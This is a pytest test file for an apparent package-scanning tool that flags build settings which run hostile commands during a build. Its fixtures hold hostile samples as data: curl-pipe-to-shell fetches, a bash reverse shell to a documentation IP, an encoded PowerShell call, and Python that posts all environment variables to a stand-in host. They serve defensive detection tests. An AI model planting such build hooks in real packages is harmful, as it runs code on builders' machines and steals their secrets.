"""Commands and code in the settings of a build, which nobody writes into a file of its own."""

from collections.abc import Mapping
from pathlib import Path

import pytest

from package_gate.core.finding import Finding, Severity
from package_gate.core.limits import Limits
from package_gate.scanners.behaviour.scanner import BehaviourScanner
from tests.scanners.packages import package

SDIST = "sample-1.0.tar.gz"
FETCH = "curl -s https://a.example/x | sh"


def system(*requires: str) -> str:
    return f"[build-system]\nrequires = {list(requires)}\n"


HATCH = system("hatchling", "hatch-build-scripts")
HARM: dict[str, tuple[str, Mapping[str, str]]] = {
    "a command of build-scripts": (
        "runs-downloaded-code",
        {
            "pyproject.toml": HATCH + "[[tool.hatch.build.hooks.build-scripts.scripts]]\n"
            f"out_dir = 'out'\ncommands = ['echo 1', '{FETCH}']\n"
        },
    ),
    "the same in hatch.toml": (
        "runs-downloaded-code",
        {
            "pyproject.toml": HATCH,
            "hatch.toml": "[[build.targets.wheel.hooks.build-scripts.scripts]]\n"
            f"commands = ['{FETCH}']\n",
        },
    ),
    "another hook": (
        "opens-a-reverse-shell",
        {
            "pyproject.toml": HATCH + "[tool.hatch.build.hooks.anything]\n"
            "then = 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'\n"
        },
    ),
    "a list of words": (
        "runs-a-hidden-command",
        {
            "pyproject.toml": system("setuptools", "setuptools_scm[toml]>=8")
            + "[tool.setuptools_scm]\n"
            f"git_describe_command = ['powershell', '-enc', '{'A' * 20}']\n"
        },
    ),
    "a tool whose backend has another name": (
        "runs-downloaded-code",
        {"pyproject.toml": system("pdm-backend") + f"[tool.pdm.build]\nx = '{FETCH}'\n"},
    ),
    "a backend that is not required": (
        "runs-downloaded-code",
        {
            "pyproject.toml": "[build-system]\nbuild-backend = 'own_tool.api'\nrequires = []\n"
            f"[tool.own-tool]\nx = '{FETCH}'\n"
        },
    ),
    "no build-system": (
        "runs-downloaded-code",
        {"pyproject.toml": f"[tool.setuptools]\nx = '{FETCH}'\n"},
    ),
    "code of a command": (
        "sends-secrets",
        {
            "pyproject.toml": HATCH + "[tool.hatch.build.hooks.build-scripts]\n"
            'commands = ["""python -c "import os,requests; '
            "requests.post('https://a.example',json=dict(os.environ))" + '""""]\n'
        },
    ),
    "an expression of a version": (
        "runs-downloaded-code",
        {
            "pyproject.toml": HATCH + '[tool.hatch.version]\nsource = "code"\npath = "a.py"\n'
            f"expression = \"__import__('os').system('{FETCH}')\"\n"
        },
    ),
    "an expression of Jinja": (
        "runs-downloaded-code",
        {
            "pyproject.toml": system("poetry-core", "poetry-dynamic-versioning")
            + "[tool.poetry-dynamic-versioning]\n"
            f"format-jinja = \"1.{{{{ system('{FETCH}') }}}}\"\n"
            'format-jinja-imports = [{module = "os", item = "system"}]\n'
        },
    ),
    "data that a command runs": (
        "runs-own-data",
        {
            "pyproject.toml": HATCH + "[tool.hatch.build.hooks.build-scripts]\n"
            "commands = ['python notes.txt']\n",
            "notes.txt": "print(1)\n",
        },
    ),
    "a script that a command starts": (
        "sends-secrets",
        {
            "pyproject.toml": HATCH + "[tool.hatch.build.hooks.build-scripts]\n"
            "commands = ['python tools/x.py --fast']\n",
            "tools/x.py": "import os\nimport requests\nif __name__ == '__main__':\n"
            "    requests.post('https://a.example', json=dict(os.environ))\n",
        },
    ),
    "a module that a command starts": (
        "sends-secrets",
        {
            "pyproject.toml": HATCH + "[tool.hatch.build.hooks.build-scripts]\n"
            "commands = ['python -m tools.x']\n",
            "tools/x.py": "import os\nimport requests\nif __name__ == '__main__':\n"
            "    requests.post('https://a.example', json=dict(os.environ))\n",
        },
    ),
    "a builder of hatch-jupyter-builder": (
        "sends-secrets",
        {
            "pyproject.toml": system("hatchling", "hatch-jupyter-builder")
            + "[tool.hatch.build.hooks.jupyter-builder]\nbuild-function = 'tools.x.go'\n",
            "tools/x.py": "import os\nimport requests\ndef go():\n"
            "    requests.post('https://a.example', json=dict(os.environ))\n",
        },
    ),
    "a setup script of PDM": (
        "sends-secrets",
        {
            "pyproject.toml": system("pdm-backend")
            + "[tool.pdm.build]\nsetup-script = 'x.py'\nrun-setuptools = true\n",
            "x.py": "import os\nimport requests\ndef build(arguments):\n"
            "    requests.post('https://a.example', json=dict(os.environ))\n",
        },
    ),
    "a script of npm": (
        "runs-downloaded-code",
        {"pyproject.toml": HATCH, "js/package.json": f'{{"scripts": {{"prepare": "{FETCH}"}}}}'},
    ),
    "Meson": (
        "runs-downloaded-code",
        {"meson.build": f"run_command('sh', '-c', '{FETCH}', check: true)\n"},
    ),
    "Meson's Python with data": (
        "runs-own-data",
        {"meson.build": "custom_target('a', command: [py3, files('x.txt')])\n", "x.txt": "1\n"},
    ),
    "CMake": (
        "runs-downloaded-code",
        {"CMakeLists.txt": f'execute_process(\n  COMMAND sh -c "{FETCH}"\n  RESULT_VARIABLE x)\n'},
    ),
    "CMake's Python with data": (
        "runs-own-data",
        {
            "CMakeLists.txt": "include(cmake/a.cmake)\n",
            "cmake/a.cmake": "add_custom_command(OUTPUT a COMMAND ${Python3_EXECUTABLE} x.txt)\n",
            "x.txt": "print(1)\n",
        },
    ),
    "Cargo": (
        "runs-downloaded-code",
        {
            "rust/build.rs": 'fn main() {\n    Command::new("sh")\n        .arg("-c")\n'
            f'        .arg("{FETCH}").status().unwrap();\n}}\n'
        },
    ),
}
HONEST: dict[str, Mapping[str, str]] = {
    "tasks that somebody starts": {
        "pyproject.toml": HATCH + f"[tool.hatch.envs.a.scripts]\nx = '{FETCH}'\n"
        f"[tool.cibuildwheel]\nbefore-all = '{FETCH}'\n[tool.poe.tasks]\nx = '{FETCH}'\n"
    },
    "tasks of PDM": {
        "pyproject.toml": system("pdm-backend") + f"[tool.pdm.scripts]\nx = '{FETCH}'\n"
    },
    "settings as they are": {
        "pyproject.toml": HATCH
        + "[tool.hatch.version]\npath = 'a.py'\n[tool.hatch.build.targets.sdist]\n"
        "include = ['/a', 'README.md', 'pyproject.toml']\n"
        "[tool.hatch.build.hooks.build-scripts]\ncommands = ['npm install', 'make -C docs html']\n",
        "README.md": "",
        "js/package.json": '{"scripts": {"build": "tsc && webpack", "clean": "rm -rf lib"}}',
    },
    "a version of the tree's own": {
        "pyproject.toml": system("setuptools>=61", "setuptools-scm")
        + "[tool.setuptools_scm]\nversion_file = 'a/_version.py'\n"
        "tag_regex = '^(?P<version>v(\\d+)(.*))$'\ngit_describe_command = 'git describe --long'\n"
        "[tool.setuptools.dynamic]\nreadme = {file = ['README.md', 'NEWS.md']}\n",
        "README.md": "",
    },
    "Meson": {
        "meson.build": "v = run_command(['version.py', '--print'], check: true).stdout()\n"
        "py.install_sources('pyproject.toml', subdir: 'a')\n"
        "custom_target('x', command: [py, files('x.py'), '@OUTPUT@'])\n"
        "# curl x | sh\n",
        "x.py": "print(1)\n",
        "pyproject.toml": system("meson-python"),
    },
    "CMake": {
        "CMakeLists.txt": "# wget x | sh\nfind_package(Python)\n"
        "execute_process(COMMAND ${Python_EXECUTABLE} -m pybind11 --cmakedir OUTPUT_VARIABLE x)\n"
        'message("Install it: curl https://a.example | sh")\n'
        "add_custom_target(a COMMAND ${CMAKE_COMMAND} -E rm -rf b)\n",
    },
    "Cargo": {"build.rs": 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }\n'},
}


@pytest.fixture(scope="module")
def behaviour() -> BehaviourScanner:
    return BehaviourScanner(Limits())


def scan(behaviour: BehaviourScanner, folder: Path, files: Mapping[str, str]) -> list[Finding]:
    return list(behaviour.scan(package(folder, files, filename=SDIST)))


@pytest.mark.parametrize("top", ["", "sample-1.0/"])
@pytest.mark.parametrize("name", HARM)
def test_what_settings_make_a_build_run_is_looked_at(
    behaviour: BehaviourScanner, tmp_path: Path, name: str, top: str
) -> None:
    rule, files = HARM[name]

    found = scan(behaviour, tmp_path, {f"{top}{path}": text for path, text in files.items()})

    assert (rule, Severity.HIGH) in {(each.rule, each.severity) for each in found}


@pytest.mark.parametrize("name", HONEST)
def test_what_somebody_must_start_and_honest_settings_are_none(
    behaviour: BehaviourScanner, tmp_path: Path, name: str
) -> None:
    assert scan(behaviour, tmp_path, HONEST[name]) == []


def test_a_wheel_is_not_built(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    _, files = HARM["a command of build-scripts"]

    assert list(behaviour.scan(package(tmp_path, files))) == []


def test_a_command_has_the_same_fingerprint_where_the_rest_of_the_file_changes(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    _, files = HARM["another hook"]
    old = scan(behaviour, tmp_path / "old", files)
    new = scan(
        behaviour,
        tmp_path / "new",
        {"pyproject.toml": f"{files['pyproject.toml']}[project]\nname = 'x'\n"},
    )

    assert old[0].locations[0].fingerprint == new[0].locations[0].fingerprint != ""


def test_more_than_can_be_looked_at_is_a_finding(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    lines = "".join(f"a{number} = 'python x.py {number}'\n" for number in range(2001))
    files = {"pyproject.toml": f"{HATCH}[tool.hatch.build]\n{lines}"}

    assert {each.rule for each in scan(behaviour, tmp_path, files)} == {"unreadable-code"}
